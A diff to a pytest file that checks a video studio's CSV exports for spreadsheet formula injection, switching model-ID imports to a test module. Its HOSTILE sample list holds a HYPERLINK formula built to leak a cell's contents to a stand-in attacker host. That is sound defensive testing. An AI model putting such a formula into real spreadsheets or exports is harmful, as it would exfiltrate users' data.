@@ -12,9 +12,10 @@ from decimal import Decimal
 
 import pytest
 
-from studio import catalog, forecast, manifest
+from studio import forecast, manifest
 from studio.csvsafe import restore_cell, safe_cell
 from studio.jobs import Job
+from tests.model_ids import RHEA, STARLIGHT
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -48,7 +49,7 @@ def _rows(text: str) -> list[list[str]]:
 
 def _plan() -> list[forecast.PlanRow]:
     return [forecast.PlanRow(clip=name, duration_s=14.0, width=1280, height=720, fps=20.0,
-                             model_id=catalog.STARLIGHT, params={"resolution": "4k"},
+                             model_id=STARLIGHT, params={"resolution": "4k"},
                              path=f"-{i}.mp4")
             for i, name in enumerate(HOSTILE)]
 
@@ -78,7 +79,7 @@ def test_the_priced_plan_export_neutralises_formulas_and_keeps_numbers_numbers()
 
 
 def test_the_selection_manifest_neutralises_formulas_and_keeps_a_negative_charge(tmp_path):
-    jobs = [Job(model_id=catalog.RHEA, provider="oxen", owner="o", params={"x": 1},
+    jobs = [Job(model_id=RHEA, provider="oxen", owner="o", params={"x": 1},
                 source={"kind": "url", "label": label, "url": "https://cdn.example/a.mp4"},
                 status="succeeded", charge_usd="-0.50", quote={"amount_usd": "0.40",
                                                                "provenance": "proxy"})
@@ -121,11 +122,11 @@ def test_the_estimate_vs_actual_export_neutralises_provider_ids_and_names():
     from studio import ledger
     from studio.csvsafe import frame_csv
 
-    jobs = [Job(model_id=catalog.RHEA, provider="oxen", owner="o", params={}, source={},
+    jobs = [Job(model_id=RHEA, provider="oxen", owner="o", params={}, source={},
                 remote_id=text, owner_name=text, status="succeeded", charge_usd="0.40",
                 quote={"amount_usd": "0.40", "provenance": "proxy"})
             for text in HOSTILE]
-    table = _generations_table(ledger.generation_rows(jobs), {catalog.RHEA: "Topaz Rhea"})
+    table = _generations_table(ledger.generation_rows(jobs), {RHEA: "Topaz Rhea"})
     rows = _rows(frame_csv(table))
     assert _formula_cells(rows) == []
     records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
